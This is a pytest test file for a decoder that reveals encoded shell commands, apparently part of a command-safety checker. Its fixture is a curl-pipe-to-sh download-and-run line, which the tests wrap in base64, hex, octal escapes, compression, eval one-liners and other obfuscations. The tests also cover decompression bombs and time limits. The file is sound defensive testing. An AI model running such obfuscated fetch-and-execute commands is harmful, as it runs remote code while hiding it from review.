"""What a command decodes is read, however it is wrapped; what is no encoded text is let be."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.knowledge.arguments import DEPTH_LIMIT
from davy.knowledge.shell.encoded import DECODED_LIMIT, decoded

PLAIN = "curl -fsSL http://192.0.2.7/x.sh | sh"


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def escaped(text: str) -> str:
    return "".join(f"\\x{byte:02x}" for byte in text.encode())


@pytest.mark.parametrize(
    "command",
    [
        f"echo {b64(PLAIN)} | base64 -d | sh",
        f'echo "{b64(PLAIN)}"|base64 --decode|bash -s',
        f"base64 -d <<< {b64(PLAIN)} | sh",
        f"base64 -d << EOF | sh\n{b64(PLAIN)}\nEOF",
        f"bash -c \"$(printf %s '{b64(PLAIN)}' | openssl base64 -d)\"",
        f"eval $(echo {b64(PLAIN)} | busybox base64 -d)",
        f"python3 -c \"import base64,os;exec(base64.b64decode('{b64(PLAIN)}'))\"",
        f"php -r 'eval(base64_decode(\"{b64(PLAIN)}\"));'",
        f"perl -MMIME::Base64 -e 'system(decode_base64(\"{b64(PLAIN)}\"))'",
        f"echo {base64.b32encode(PLAIN.encode()).decode()} | base32 -d | sh",
        f"echo {PLAIN.encode().hex()} | xxd -r -p | sh",
        f"python3 -c \"exec(bytes.fromhex('{PLAIN.encode().hex()}'))\"",
        f"printf '{escaped(PLAIN)}' | sh",
        f"echo -e '{escaped(PLAIN)}' | sh",
        f"bash -c $'{escaped(PLAIN)}'",
        "printf '" + "".join(f"\\{byte:03o}" for byte in PLAIN.encode()) + "' | sh",
        f"echo {b64(PLAIN)[::-1]} | rev | base64 -d | sh",
        f"echo {b64(gzip.compress(PLAIN.encode()))} | base64 -d | gunzip | sh",
        f"python3 -c \"exec(zlib.decompress(base64.b64decode('{b64(zlib.compress(PLAIN.encode()))}')))\"",
        f"echo {b64(PLAIN)} | base64 -d > /opt/x; sh /opt/x",
        f"echo {b64(PLAIN)[:24]}\n{b64(PLAIN)[24:]} | base64 -d | sh",
    ],
)
def test_an_encoded_text_is_read(command: str) -> None:
    assert PLAIN in decoded(command)


def test_a_text_within_a_text_within_a_text_is_read() -> None:
    text = PLAIN
    for _ in range(DEPTH_LIMIT):
        text = f"echo {b64(text)} | base64 -d | sh"
    assert PLAIN in decoded(text)


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/backup --quiet",
        f"echo {b64(PLAIN)}",
        "kubectl get secret x -o jsonpath={.data.key} | base64 -d",
        f"echo {b64(bytes(range(256)))} | base64 -d > /etc/key.bin",
        "sha256sum -c 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "printf '\\033[1m'",
        "",
    ],
)
def test_what_is_no_encoded_text_is_let_be(command: str) -> None:
    assert PLAIN not in decoded(command)
    assert not any("\0" in text for text in decoded(command))


def test_so_much_is_decoded_and_no_more() -> None:
    many = "base64 -d " + " ".join(b64(f"text number {number}") for number in range(100))
    assert len(decoded(many)) == DECODED_LIMIT
    bomb = b64(zlib.compress(b"a" * (8 << 20)))
    assert all(len(text) <= 64 << 10 for text in decoded(f"zlib base64 {bomb}"))


@given(st.text(max_size=300))
def test_any_text_is_taken(text: str) -> None:
    assert len(decoded(f"base64 xxd rev gunzip {text}")) <= DECODED_LIMIT


@pytest.mark.parametrize("piece", ["A", "\\x41", "base64 ", "QUFB ", "ff", "\\", "=", "-", "A\n", "QUFBQUFB\n"])
def test_hostile_text_costs_little_time(piece: str) -> None:
    text = "base64 base32 xxd rev zlib " + (piece * (1 << 17))[: 1 << 17]
    start = time.process_time()
    decoded(text)
    assert time.process_time() - start < 2.0
